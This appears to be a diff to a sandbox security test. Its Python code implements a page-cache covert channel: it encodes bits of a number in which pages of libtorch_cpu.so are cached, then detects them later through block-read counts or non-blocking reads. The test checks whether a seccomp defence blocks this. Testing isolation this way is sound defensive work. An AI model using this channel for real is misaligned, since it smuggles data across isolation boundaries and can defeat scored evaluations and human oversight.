@@ -1,10 +1,10 @@
 """Attack: a note in the page cache of the image, which outlives its writer: for each bit of the
-number one page of a large library is brought in or not; the reader touches the page, and the
-kernel counts whether it had to be read from the disk.
+number one page of a large library is read or not; who reads it later has the kernel count whether
+it came from the disk.
 
-Expected: crash for calls that bring pages in unread, or tell which are there. By touch alone:
+Expected: crash for calls that bring pages in unread, or tell which are there. By reading alone:
 scored, and the second predictor may know the number.
-Defence: the seccomp list refuses those calls; none under runc against touching.
+Defence: the seccomp list refuses those calls; none under runc against reading.
 Control: without the list the same calls carry the number.
 """
 
@@ -17,11 +17,11 @@ import resource
 import numpy as np
 
 LIBRARY = "/opt/sealed/venv/lib/python3.11/site-packages/torch/lib/libtorch_cpu.so"
-SEND = "touch"  # or "advice", "fadvise", "readahead"
-READ = "faults"  # or "nowait"
-PAGE, WINDOW = 4096, 128
-"""In bytes, and in pages: touching a page brings in its neighbours, 32 of them in all."""
-PROBED, WRITTEN = 32, 96
+SEND = "read"  # or "advice", "fadvise", "readahead"
+READ = "blocks"  # or "nowait"
+PAGE, WINDOW = 4096, 16
+"""In bytes, and in pages: what lies apart is not read ahead."""
+PROBED, WRITTEN = 4, 12
 """In its window: the page that tells whether a window is cold, and the one that is a bit."""
 BITS, MARKS, SCORINGS = 30, 3, 2
 ADVICE_WILLNEED = 3
@@ -42,17 +42,17 @@ class Library:
         self.address = libc.mmap(None, size, mmap.PROT_READ, mmap.MAP_SHARED, self.descriptor, 0)
         self.windows = size // PAGE // WINDOW
 
-    def touch(self, page):
-        """Whether the page was there before it was touched."""
-        before = resource.getrusage(resource.RUSAGE_SELF).ru_majflt
-        ctypes.string_at(self.address + page * PAGE, 1)
-        return resource.getrusage(resource.RUSAGE_SELF).ru_majflt == before
+    def read(self, page):
+        """Whether the page was there before it was read."""
+        before = resource.getrusage(resource.RUSAGE_SELF).ru_inblock
+        os.pread(self.descriptor, 1, page * PAGE)
+        return resource.getrusage(resource.RUSAGE_SELF).ru_inblock == before
 
     def bring(self, window):
         page = window * WINDOW + WRITTEN
         failed = 0
-        if SEND == "touch":
-            self.touch(page)
+        if SEND == "read":
+            self.read(page)
         elif SEND == "advice":
             failed = libc.madvise(self.address + page * PAGE, PAGE, ADVICE_WILLNEED)
         elif SEND == "fadvise":
@@ -64,8 +64,8 @@ class Library:
 
     def cached(self, window):
         page = window * WINDOW + WRITTEN
-        if READ == "faults":
-            return self.touch(page)
+        if READ == "blocks":
+            return self.read(page)
         try:
             os.preadv(self.descriptor, [bytearray(1)], page * PAGE, os.RWF_NOWAIT)
         except BlockingIOError:
@@ -77,7 +77,7 @@ def train(data, artifact, seed, seconds):
     library = Library()
     cold = []
     for window in range(library.windows):
-        if len(cold) < SCORINGS * BITS + 2 * MARKS and not library.touch(window * WINDOW + PROBED):
+        if len(cold) < SCORINGS * BITS + 2 * MARKS and not library.read(window * WINDOW + PROBED):
             cold.append(window)
     (artifact / "cold").write_text(json.dumps(cold))
 
@@ -88,7 +88,7 @@ def load(artifact):
 
     def bits(library, ask):
         """The windows of the scoring that is on: a look at the marks sets them."""
-        seen = [library.touch(window * WINDOW + WRITTEN) for window in marks[ask]]
+        seen = [library.read(window * WINDOW + WRITTEN) for window in marks[ask]]
         start = 2 * MARKS + (BITS if sum(seen) > MARKS // 2 else 0)
         return cold[start : start + BITS]
 
